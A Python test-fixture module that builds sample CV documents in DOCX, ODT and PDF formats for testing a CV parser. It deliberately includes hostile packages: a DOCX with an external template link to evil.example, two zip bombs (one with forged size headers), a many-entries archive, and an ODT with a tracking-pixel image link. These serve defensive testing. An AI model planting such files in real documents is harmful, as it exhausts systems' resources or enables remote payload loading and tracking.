"""CV files made in the test: DOCX (python-docx), ODT and hostile ZIP packages by hand, PDF
(reportlab; encrypted with pypdf), for the tests of :mod:`matching.people.documents` and the
hand-written cases of the CV development set (bench/cv_devset_edge.py)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Sequence
from xml.sax.saxutils import escape

Block = str | Sequence[Sequence[str]]

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>'
    "</Types>"
)
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def docx(blocks: Sequence[Block]) -> bytes:
    """A DOCX: strings are paragraphs ("# " a heading, "* " a bullet); a list of rows is a
    table (each cell a string, "\\n" between its paragraphs)."""
    from docx import Document

    d = Document()
    for block in blocks:
        if isinstance(block, str):
            if block.startswith("# "):
                d.add_heading(block[2:], level=1)
            elif block.startswith("* "):
                d.add_paragraph(block[2:], style="List Bullet")
            else:
                d.add_paragraph(block)
        else:
            table = d.add_table(rows=0, cols=len(block[0]))
            for row in block:
                cells = table.add_row().cells
                for cell, text in zip(cells, row, strict=True):
                    lines = text.split("\n")
                    cell.text = lines[0]
                    for line in lines[1:]:
                        cell.add_paragraph(line)
    out = io.BytesIO()
    d.save(out)
    return out.getvalue()


def document_xml(paragraphs: Sequence[str]) -> str:
    body = "".join(f"<w:p><w:r><w:t>{escape(p)}</w:t></w:r></w:p>" for p in paragraphs)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W_NS}">'
        f"<w:body>{body}</w:body></w:document>"
    )


def raw_docx(
    paragraphs: Sequence[str] = ("Lagermedarbejder",),
    *,
    main_type: str = DOCX_MAIN,
    extra: dict[str, bytes | str] | None = None,
    document: str | None = None,
) -> bytes:
    """A DOCX package written by hand, with ``extra`` parts (name → content) added."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=main_type))
        zf.writestr("_rels/.rels", ROOT_RELS)
        zf.writestr("word/document.xml", document or document_xml(paragraphs))
        for name, content in (extra or {}).items():
            zf.writestr(name, content)
    return out.getvalue()


def external_template_docx() -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    return raw_docx(extra={"word/_rels/settings.xml.rels": rels})


def hyperlink_docx() -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/hyperlink" Target="https://www.linkedin.com/in/x" '
        'TargetMode="External"/></Relationships>'
    )
    return raw_docx(["Lagermedarbejder hos Netto"], extra={"word/_rels/document.xml.rels": rels})


def zip_bomb_docx(size: int = 200 * 1024 * 1024) -> bytes:
    """A DOCX whose document.xml inflates to ``size`` bytes of spaces (a few hundred kB)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=DOCX_MAIN))
        with zf.open("word/document.xml", "w", force_zip64=True) as handle:
            chunk = b" " * (1024 * 1024)
            for _ in range(size // len(chunk)):
                handle.write(chunk)
    return out.getvalue()


def lying_zip_bomb_docx() -> bytes:
    """document.xml declares a small size but inflates to far more (the header edited)."""
    body = b"<w:document/>" + b" " * (40 * 1024 * 1024)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES.format(main=DOCX_MAIN))
        zf.writestr("word/document.xml", body)
    data = bytearray(out.getvalue())
    # Rewrite the declared uncompressed size (local header and central directory) to 1000.
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            name_len = int.from_bytes(data[at + (26 if signature == b"PK\x03\x04" else 28) :][:2],
                                      "little")  # fmt: skip
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if bytes(data[name_at : name_at + name_len]) == b"word/document.xml":
                data[at + offset : at + offset + 4] = (1000).to_bytes(4, "little")
            start = at + 4
    return bytes(data)


def many_entries_docx(entries: int = 1500) -> bytes:
    return raw_docx(extra={f"word/media/x{i}.xml": "<a/>" for i in range(entries)})


ODT_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
    '<manifest:file-entry manifest:full-path="/" '
    'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    "</manifest:manifest>"
)


def odt(blocks: Sequence[Block], *, extra: dict[str, str] | None = None) -> bytes:
    """A minimal OpenDocument text, blocks as in :func:`docx` ("* " a list item): the mimetype
    stored first and uncompressed, content.xml and the manifest; ``extra`` entries added."""
    body = []
    for block in blocks:
        if isinstance(block, str):
            if block.startswith("# "):
                body.append(f'<text:h text:outline-level="1">{escape(block[2:])}</text:h>')
            elif block.startswith("* "):
                body.append(
                    f"<text:list><text:list-item><text:p>{escape(block[2:])}</text:p>"
                    "</text:list-item></text:list>"
                )
            else:
                body.append(f"<text:p>{escape(block)}</text:p>")
        else:
            rows = "".join(
                "<table:table-row>"
                + "".join(
                    "<table:table-cell>"
                    + "".join(f"<text:p>{escape(x)}</text:p>" for x in cell.split("\n"))
                    + "</table:table-cell>"
                    for cell in row
                )
                + "</table:table-row>"
                for row in block
            )
            columns = f'<table:table-column table:number-columns-repeated="{len(block[0])}"/>'
            body.append(f"<table:table>{columns}{rows}</table:table>")
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.2">'
        "<office:body><office:text>" + "".join(body) + "</office:text></office:body>"
        "</office:document-content>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        mimetype = zipfile.ZipInfo("mimetype")  # stored first, uncompressed
        zf.writestr(mimetype, "application/vnd.oasis.opendocument.text")
        zf.writestr("content.xml", content)
        zf.writestr("META-INF/manifest.xml", ODT_MANIFEST)
        for name, text in (extra or {}).items():
            zf.writestr(name, text)
    return out.getvalue()


def odt_with_linked_image(href: str = "http://tracker.example/pixel.png") -> bytes:
    """An ODT whose picture is fetched from ``href`` instead of being stored inside it."""
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
        'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"><office:body><office:text>'
        "<text:p>Lagermedarbejder</text:p><text:p><draw:frame>"
        f'<draw:image xlink:href="{escape(href)}"/></draw:frame></text:p>'
        "</office:text></office:body></office:document-content>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        zf.writestr("content.xml", content)
    return out.getvalue()


def pdf(lines: Sequence[str], *, columns: Sequence[Sequence[str]] | None = None) -> bytes:
    """A PDF with a text layer: ``lines`` one per line; or ``columns`` side by side."""
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    c = canvas.Canvas(out, pagesize=A4)
    width, height = A4
    if columns:
        for i, column in enumerate(columns):
            y = height - 60
            for line in column:
                c.drawString(40 + i * (width / 2), y, line)
                y -= 16
    else:
        y = height - 60
        for line in lines:
            c.drawString(50, y, line)
            y -= 16
            if y < 50:
                c.showPage()
                y = height - 60
    c.save()
    return out.getvalue()


def image_only_pdf() -> bytes:
    """A "scanned" page: one drawn image, no text."""
    from reportlab.lib.pagesizes import A4
    from reportlab.lib.utils import ImageReader
    from reportlab.pdfgen import canvas

    png = tiny_png()
    out = io.BytesIO()
    c = canvas.Canvas(out, pagesize=A4)
    c.drawImage(ImageReader(io.BytesIO(png)), 50, 300, width=400, height=400)
    c.save()
    return out.getvalue()


def encrypted_pdf(lines: Sequence[str], password: str = "hemmelig") -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter()
    for page in PdfReader(io.BytesIO(pdf(lines))).pages:
        writer.add_page(page)
    writer.encrypt(user_password=password, owner_password=password + "-owner")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def tiny_png() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    raw = b"".join(b"\x00" + b"\x80\x80\x80" * 8 for _ in range(8))
    header = struct.pack(">IIBBBBB", 8, 8, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("notes.txt", "Lagermedarbejder")
    return out.getvalue()
